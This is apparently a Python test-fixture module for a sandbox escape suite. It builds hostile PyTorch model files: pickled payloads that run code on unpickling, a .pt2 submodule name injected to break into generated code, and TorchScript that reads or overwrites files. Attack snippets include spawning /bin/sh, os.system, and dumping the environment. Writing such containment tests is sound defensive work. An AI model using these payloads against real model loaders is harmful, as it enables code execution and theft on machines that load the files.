"""Hostile models for the sandbox's escape suite: each tries one escape from inside a job.

Every attack is a few lines of Python (:func:`attack_source`) that let the kernel's answer
propagate: inside the sandbox each raises (or is refused and reported), never succeeds. They are
delivered the ways a tenant could deliver code:

- :func:`pickle_model`: a ``.pt`` whose unpickling runs it (needs ``RECALIB_ALLOW_UNSAFE_PICKLE``);
- :func:`pt2_model`: a ``.pt2`` whose submodule name breaks out of ``program.module()``'s
  generated code (refused by the ``.pt2`` name allowlist when vetting is on);
- :class:`HostileNet`: ``arch`` code of a state_dict (allowlisted by the operator) running it in
  ``forward``;
- :func:`torchscript_reader` / :func:`torchscript_writer`: TorchScript reading or writing a file
  with ``torch.from_file`` (refused by the TorchScript op allowlist when vetting is on).
"""

from __future__ import annotations

import pickle
from pathlib import Path

import torch
from torch import nn


def attack_source(kind: str, target: str = "", port: int = 0) -> str:
    """Python that attempts ``kind`` against ``target`` (a path) or ``port`` (on 127.0.0.1)."""
    sources = {
        "read": f"open({target!r}, 'rb').read(64)",
        "write": f"open({target!r}, 'wb').write(b'escaped')",
        "tcp": f"__import__('socket').create_connection(('127.0.0.1', {port}), timeout=2)",
        "exec": "__import__('os').execv('/bin/sh', ['sh', '-c', 'true'])",
        "system": "__import__('os').system('touch /tmp/recalib-escape-system')",
        "fork": "__import__('os').fork() or None",
        "environment": (
            "raise RuntimeError('ENVIRONMENT ' + repr(sorted(__import__('os').environ.items())))"
        ),
    }
    return sources[kind]


class _Payload:
    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (self.source,))


def pickle_model(path: Path, source: str) -> Path:
    """A ``.pt`` file whose unpickling runs ``source`` (torch.save's zip, a pickled payload)."""
    torch.save({"model": _Payload(source)}, path, pickle_protocol=pickle.HIGHEST_PROTOCOL)
    return path


def _escaped(source: str) -> str:
    return "".join(c if c.isalnum() or c == " " else f"\\x{ord(c):02x}" for c in source)


class _Holder(nn.Module):
    def __init__(self, name: str) -> None:
        super().__init__()
        self.bn = nn.BatchNorm1d(4)
        self.add_module(name, nn.Linear(4, 4))  # with weights: the name is in the graph
        self.name = name

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.bn(getattr(self, self.name)(x))


def pt2_model(path: Path, source: str) -> Path:
    """A ``.pt2`` whose submodule name runs ``source`` when ``program.module()`` regenerates it
    (the probe's exploit: no ``.``, ``;`` or ``,`` in the name, escapes inside ``exec``)."""
    name = f'x") if exec("{_escaped(source)}") else ("'
    program = torch.export.export(_Holder(name).eval(), (torch.randn(3, 4),))
    torch.export.save(program, path)
    return path


class HostileNet(nn.Module):
    """``arch`` code that attempts ``attack`` (an :func:`attack_source` source) when called."""

    def __init__(self, source: str = "") -> None:
        super().__init__()
        self.bn = nn.BatchNorm1d(4)
        self.source = source

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if self.source:
            exec(self.source)
        return self.bn(x)


def state_dict_for_hostile_net(path: Path) -> Path:
    torch.save(HostileNet().state_dict(), path)
    return path


class _FromFileReader(nn.Module):
    def __init__(self, target: str) -> None:
        super().__init__()
        self.bn = nn.BatchNorm1d(4)
        self.target = target
        self.register_buffer("loot", torch.zeros(16, dtype=torch.uint8))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        self.loot.copy_(torch.from_file(self.target, shared=False, size=16, dtype=torch.uint8))
        return self.bn(x)


class _FromFileWriter(nn.Module):
    def __init__(self, target: str) -> None:
        super().__init__()
        self.bn = nn.BatchNorm1d(4)
        self.target = target

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        mapped = torch.from_file(self.target, shared=True, size=8, dtype=torch.uint8)
        mapped.fill_(33)
        return self.bn(x) + mapped.sum() * 0  # used: scripting keeps the call


def torchscript_reader(path: Path, target: str) -> Path:
    """TorchScript whose forward copies 16 bytes of ``target`` into a buffer it saves."""
    torch.jit.save(torch.jit.script(_FromFileReader(target)), path)
    return path


def torchscript_writer(path: Path, target: str) -> Path:
    """TorchScript whose forward maps ``target`` shared and overwrites its first bytes."""
    torch.jit.save(torch.jit.script(_FromFileWriter(target)), path)
    return path
